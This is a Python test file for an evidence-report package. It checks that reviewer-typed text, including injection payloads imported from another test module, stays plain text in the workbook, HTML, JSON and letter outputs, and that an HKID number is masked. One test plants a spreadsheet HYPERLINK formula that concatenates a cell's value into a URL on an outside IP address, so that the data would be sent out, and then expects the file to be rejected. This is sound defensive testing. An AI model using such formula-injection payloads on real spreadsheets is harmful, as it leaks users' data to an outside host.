"""An earlier report may come from anybody: what a person has typed into it is text and masked in all that is made of it."""

import io
import json
from functools import cache
from pathlib import Path

import openpyxl
import pytest

from aeo_evidence.errors import AeoError
from aeo_evidence.letter_source import read_report
from aeo_evidence.model.result import Result
from aeo_evidence.report.as_json import as_object, write_json
from aeo_evidence.report.html import write_html
from aeo_evidence.report.letter import letter_file, write_letter
from aeo_evidence.report.workbook import write_workbook
from aeo_evidence.rulebook import load_rules
from tests.hostile.test_injection import PAYLOADS, assert_harmless_letter, elements
from tests.previous.made import SHOWN, cell_in, judged, read, saved
from tests.report.read_back import texts
from tests.report.small import HKID, small
from tests.report.test_letter import said
from tests.report.test_workbook_safety import assert_only_values, targets

TYPED = (*(str(each.values[0]) for each in PAYLOADS), f"Ms Lo, HKID {HKID}, has signed")
PLAIN = tuple(f"line {number}" for number in range(len(TYPED)))


@cache
def typed(lines: tuple[str, ...]) -> bytes:
    """Return a report in which a reviewer has typed a line as comment and as owner at each of the first gaps."""
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(small())))
    for number, text in enumerate(lines, 2):
        for code in ("comment", "owner"):
            cell = cell_in(book["Gaps"], f"row {number}", code)
            cell.value, cell.data_type = text, "s"
    return saved(book)


@cache
def carried_over(lines: tuple[str, ...]) -> Result:
    return judged(past=read(typed(lines)))


def letters(folder: Path) -> dict[str, bytes]:
    """Return the letters out of the reports into which the lines were typed."""
    told = as_object(carried_over(PLAIN))
    decided = [request for request in told["requests"] if request["decision"]]
    for request in decided:
        line = TYPED[PLAIN.index(request["decision"]["comment"])]
        request["decision"] |= {"comment": line, "owner": line}
    assert len(decided) == len(TYPED)
    (folder / "report.json").write_text(json.dumps(told), encoding="utf-8")
    (folder / "report.xlsx").write_bytes(typed(TYPED))
    rules = load_rules()
    return {path.name: write_letter(read_report(path, rules).letter, rules) for path in sorted(folder.iterdir())}


def seen(text: str) -> str:
    """Return a text without what nobody sees: blanks and marks of direction."""
    return "".join(sign for sign in text if sign.isprintable() and not sign.isspace())


def test_what_a_reviewer_has_typed_is_text_in_every_paper_made_of_it(tmp_path: Path) -> None:
    result = carried_over(TYPED)
    book = write_workbook(result)
    assert_only_values(book)
    assert set(targets(book)) == set(targets(write_workbook(small())))
    assert elements(write_html(result)) == elements(write_html(carried_over(PLAIN)))
    for name, letter in {"of the run": letter_file(result), **letters(tmp_path)}.items():
        assert_harmless_letter(letter)
        text = seen(said(letter))
        assert [line for line in TYPED[:-1] if seen(line) not in text] == [], name


def test_a_number_that_a_reviewer_has_typed_is_masked_in_every_paper_made_of_it(tmp_path: Path) -> None:
    result = carried_over(TYPED)
    outputs = {
        "workbook": "\n".join(texts(write_workbook(result))),
        "JSON": write_json(result),
        "page": write_html(result).decode("utf-8"),
        "letter": said(letter_file(result)),
        **{name: said(letter) for name, letter in letters(tmp_path).items()},
    }
    assert [name for name, text in outputs.items() if HKID in text] == []
    assert [name for name, text in outputs.items() if "has signed" not in text] == []


def test_a_formula_in_a_reviewers_cell_is_never_a_formula_again() -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(small())))
    cell_in(book["Gaps"], SHOWN, "comment").value = '=HYPERLINK("http://198.51.100.1/"&A1,"here")'
    with pytest.raises(AeoError, match="holds a formula without a value"):
        read(saved(book))
